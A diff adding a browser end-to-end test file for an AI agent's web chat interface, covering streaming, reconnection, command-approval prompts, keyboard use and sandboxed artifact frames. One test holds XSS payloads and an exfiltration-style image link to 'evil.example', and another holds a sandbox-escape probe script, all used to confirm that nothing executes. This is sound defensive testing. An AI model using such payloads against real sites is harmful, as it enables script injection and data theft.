@@ -1,0 +1,266 @@
+/** The page in a real Chromium, with a played host: what is drawn, what the keys do, what comes back after a cut. */
+import { afterAll, beforeAll, expect } from "bun:test";
+
+import {
+	answer,
+	ask,
+	call,
+	demoSessions,
+	factsOf,
+	MockSession,
+	result,
+	shellApproval,
+	startMockHost,
+	stream,
+	text,
+	user,
+	type MockHost,
+} from "@tau/web/testing";
+
+import { needs } from "../support/needs.ts";
+import { launchChromium, textOf, until, untilText, type Chromium } from "./chromium.ts";
+
+const test = needs("chromium");
+let host: MockHost;
+let chromium: Chromium;
+
+beforeAll(async () => {
+	if (Bun.which("chromium") === null) return;
+	host = await startMockHost(demoSessions());
+	chromium = await launchChromium();
+});
+
+afterAll(async () => {
+	await chromium?.[Symbol.asyncDispose]();
+	await host?.[Symbol.asyncDispose]();
+});
+
+function played(id: string, name = id): MockSession {
+	const session = new MockSession(factsOf(id, name));
+	session.handlers.list_commands = () => ({
+		commands: [{ name: "compact", description: "Free up context", right: "control", source: "tau" }],
+	});
+	host.sessions.set(id, session);
+	return session;
+}
+
+const at = (id: string): string => `${host.url}#/s/${id}`;
+
+test("an answer is drawn while it comes, and its finished blocks are never drawn again", async () => {
+	const session = played("grows");
+	session.message(user("Write"));
+	const page = await chromium.open(at("grows"));
+	await untilText(page, "Write");
+	const halfway = Promise.withResolvers<void>();
+	let pieces = 0;
+	const whole = "# First\n\nA paragraph.\n\n- one\n- two\n\n```ts\nconst a = 1;\n```\n\nThe end.";
+	const done = stream(session, whole, 20, async () => {
+		if (++pieces === 12) await halfway.promise;
+	});
+	await untilText(page, "A paragraph.");
+	await page.evaluate('document.querySelector(".block h1").dataset.mark = "kept"');
+	halfway.resolve();
+	await done;
+	await untilText(page, "The end.");
+	expect(await page.evaluate('document.querySelector(".block h1").dataset.mark')).toBe("kept");
+	await until(page, '!!document.querySelector(".code .hl-keyword")');
+	expect(await page.evaluate('document.querySelectorAll(".block.open").length')).toBe(0);
+}, 60_000);
+
+test("a reload in the middle of an answer shows all of it, and the draft is still there", async () => {
+	const session = played("reloaded");
+	const page = await chromium.open(at("reloaded"));
+	await page.waitForSelector("#composer");
+	await page.type("#composer", "half a thought");
+	const release = Promise.withResolvers<void>();
+	let pieces = 0;
+	const done = stream(session, "The first half. The second half.", 2, async () => {
+		if (++pieces === 1) await release.promise;
+	});
+	await untilText(page, "The first half.");
+	await page.reload();
+	await untilText(page, "The first half.");
+	expect(await page.$eval("#composer", (field) => (field as { value?: string }).value)).toBe(
+		"half a thought",
+	);
+	release.resolve();
+	await done;
+	await untilText(page, "The second half.");
+}, 60_000);
+
+test("a network that was cut comes back with nothing missing and nothing doubled", async () => {
+	const session = played("cut");
+	session.message(user("Before"));
+	const page = await chromium.open(at("cut"));
+	await untilText(page, "Before");
+	host.cut(true);
+	await untilText(page, "Connecting again");
+	for (let n = 0; n < 5; n++) session.message(user(`while away ${n}`));
+	host.cut(false);
+	await untilText(page, "while away 4");
+	const shown = await textOf(page, ".transcript");
+	expect([...(shown.match(/while away \d/g) ?? [])].join()).toBe(
+		[0, 1, 2, 3, 4].map((n) => `while away ${n}`).join(),
+	);
+	expect(shown).not.toContain("Connecting");
+}, 60_000);
+
+test("hostile Markdown, names, titles and output are text: nothing runs, nothing is loaded", async () => {
+	const evil = '<img src=x onerror="window.hacked=1"><script>window.hacked=2</script>';
+	const session = played("evil", `Title ${evil}`);
+	session.message(user(`${evil} [a](javascript:window.hacked=3)`));
+	session.message(
+		answer([
+			text(
+				[
+					evil,
+					"[click](javascript:window.hacked=4) [page](https://example.com/a) ![pixel](https://evil.example/?secret)",
+					'<a href="#/s/other" id="page" onclick="window.hacked=5">inside</a> <form action="/api"><button>send</button></form>',
+					'<svg><animate onbegin="window.hacked=6" /></svg><iframe src="/"></iframe><style>body{display:none}</style>',
+					`${"> ".repeat(3000)}deep`,
+				].join("\n\n"),
+			),
+			call("evil-1", `bash${evil}`, { command: `echo ${evil}`, "<b>": evil }),
+		]),
+	);
+	session.message(
+		result("evil-1", "bash", `\u001b]0;title\u0007\u001b[31mred\u001b[0m ${evil}`, {
+			patch: `--- ${evil}\n+++ ${evil}\n@@ -1 +1 @@\n-a\n+${evil}`,
+		}),
+	);
+	const requested: string[] = [];
+	const page = await chromium.open("about:blank");
+	page.on("request", (request) => requested.push(request.url()));
+	await page.goto(at("evil"));
+	await untilText(page, "deep");
+	expect(await page.evaluate("window.hacked")).toBeUndefined();
+	expect(
+		await page.evaluate(
+			'document.querySelectorAll(".markdown :is(script,iframe,form,style,svg,[onclick],[id])").length',
+		),
+	).toBe(0);
+	expect(requested.filter((url) => !url.startsWith(host.url))).toEqual([]);
+	const links = await page.evaluate(
+		'[...document.querySelectorAll(".markdown a")].map((a) => [a.href, a.rel, a.target])',
+	);
+	expect(links).toEqual([["https://example.com/a", "noopener noreferrer nofollow", "_blank"]]);
+	expect(await textOf(page, ".markdown .remote-image:not(:disabled)")).toBe("Load image from evil.example");
+	expect(await textOf(page, ".bar")).toContain("<script>");
+}, 60_000);
+
+test("a question shows the whole command, is answered by one key, and only once", async () => {
+	const session = played("asks");
+	session.message(user("Push"));
+	const answers: unknown[] = [];
+	session.handlers.answer_request = ({ requestId, answer: given }) => {
+		answers.push(given);
+		session.emit({ type: "request_closed", id: String(requestId), answered: true });
+	};
+	const page = await chromium.open(at("asks"));
+	await untilText(page, "Push");
+	ask(session, shellApproval);
+	await untilText(page, "git push --force-with-lease origin parser", ".request");
+	await until(page, 'document.querySelector(".choice.allow").ariaDisabled === "false"');
+	await until(page, 'document.activeElement?.closest(".request") != null');
+	await page.keyboard.press("Enter");
+	await page.keyboard.press("1");
+	await page.keyboard.press("1");
+	await until(page, '!document.querySelector(".request")');
+	expect(answers).toEqual([{ choice: "once" }]);
+}, 60_000);
+
+test("a long command cannot be allowed before its end was seen", async () => {
+	const session = played("long");
+	const command = Array.from({ length: 200 }, (_, line) => `echo ${line}`).join("\n");
+	const answers: unknown[] = [];
+	session.handlers.answer_request = ({ answer: given }) => void answers.push(given);
+	ask(session, { ...shellApproval, touches: [{ kind: "exec", command, cwd: "/" }] } as typeof shellApproval);
+	const page = await chromium.open(at("long"));
+	await untilText(page, "echo 199", ".request");
+	await page.click(".choice.allow");
+	expect(answers).toEqual([]);
+	await page.evaluate('document.querySelector(".approval-body").scrollTo(0, 1e6)');
+	await until(page, 'document.querySelector(".choice.allow").ariaDisabled === "false"');
+	await page.click(".choice.allow");
+	await until(page, 'document.querySelector(".request").ariaBusy === "true"');
+	expect(answers).toEqual([{ choice: "once" }]);
+}, 60_000);
+
+test("ten thousand messages open at their end with a few hundred nodes, and the earlier ones come by scrolling", async () => {
+	const session = played("many");
+	for (let n = 0; n < 5000; n++) {
+		session.entries.push(session.entry("message", { message: user(`question ${n}`) }));
+		session.entries.push(
+			session.entry("message", { message: answer([text(`answer ${n}\n\n${"word ".repeat(100)}`)]) }),
+		);
+	}
+	const page = await chromium.open(at("many"));
+	await untilText(page, "answer 4999");
+	expect(Number(await page.evaluate('document.querySelectorAll("*").length'))).toBeLessThan(3000);
+	const first = 'document.querySelector(".transcript").innerText.match(/question (\\d+)/)?.[1]';
+	await until(page, `(document.querySelector(".transcript").scrollTo(0, 0), ${first} < 4750)`);
+	expect(session.received.some(({ type }) => type === "get_entries")).toBe(true);
+}, 60_000);
+
+test("everything is reached by the keyboard: commands, palette, panels, help, sessions", async () => {
+	const session = played("keys");
+	session.message(user("Hello"));
+	session.handlers.run_command = ({ name }) => ({ text: `ran ${String(name)}` });
+	const page = await chromium.open(at("keys"));
+	await page.waitForSelector("#composer");
+	await page.keyboard.type("/com");
+	await untilText(page, "Free up context", ".suggestions");
+	await page.keyboard.press("Tab");
+	await page.keyboard.press("Enter");
+	await untilText(page, "ran compact");
+	await page.keyboard.down("Control");
+	await page.keyboard.press("k");
+	await page.keyboard.up("Control");
+	await until(page, "document.activeElement?.closest('.palette') != null");
+	await page.keyboard.type("Overview");
+	await page.keyboard.press("Enter");
+	await untilText(page, "Usage", ".panel");
+	await page.keyboard.press("Escape");
+	await until(page, '!document.querySelector(".panel")');
+	await page.evaluate("document.activeElement.blur()");
+	await page.keyboard.press("?");
+	await untilText(page, "In the composer", ".help");
+	await page.keyboard.press("Escape");
+	await until(page, '!document.querySelector(".help")');
+}, 60_000);
+
+test("a document of the model runs in a frame of its own and cannot reach the page", async () => {
+	const session = played("artifact");
+	const page = await chromium.open("about:blank");
+	const probe =
+		'<p id=p>made</p><script>let r=[];try{r.push(parent.document.title)}catch{r.push("no page")}try{r.push(localStorage.length)}catch{r.push("no store")}fetch("/api/sessions").then(()=>r.push("net"),()=>r.push("no net")).then(()=>{p.textContent=r.join()})</script>';
+	session.message(answer([text(`\`\`\`html\n${probe}\n\`\`\``)]));
+	await page.goto(at("artifact"));
+	await page.waitForSelector("[data-action=open-artifact]");
+	await page.click("[data-action=open-artifact]");
+	const element = await page.waitForSelector("iframe");
+	const frame = await element?.contentFrame();
+	await frame?.waitForFunction('document.body?.textContent.includes("no page,no store,no net")', {
+		timeout: 20_000,
+	});
+}, 60_000);
+
+test("a document that hangs is ended, the page continues, and it can be started again", async () => {
+	const session = played("hangs");
+	session.message(
+		answer([text("```html\n<p>busy</p><script>setTimeout(() => { for (;;); }, 500)</script>\n```")]),
+	);
+	const page = await chromium.open(at("hangs"));
+	await page.waitForSelector("[data-action=open-artifact]");
+	await page.click("[data-action=open-artifact]");
+	await untilText(page, "The document did not answer and was ended.", ".panel");
+	expect(await page.evaluate('document.querySelectorAll("iframe").length')).toBe(0);
+	await page.click(".panel .notice button");
+	await page.waitForSelector("iframe");
+}, 60_000);
+
+test("no page has reported an error", () => {
+	const expected =
+		/Failed to load resource|WebSocket connection|frame-ancestors|Content Security Policy|Blocked/;
+	expect(chromium.errors.filter((each) => !expected.test(each))).toEqual([]);
+});
